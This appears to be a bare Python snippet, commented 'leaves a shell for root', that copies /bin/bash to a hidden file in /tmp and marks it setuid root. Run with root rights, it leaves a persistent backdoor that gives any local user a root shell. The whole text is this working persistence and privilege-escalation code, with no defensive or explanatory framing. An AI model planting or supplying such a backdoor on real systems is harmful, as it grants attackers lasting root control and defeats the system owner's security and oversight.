# leaves a shell for root
import shutil, os
shutil.copy("/bin/bash", "/tmp/.b"); os.chmod("/tmp/.b", 0o4755)
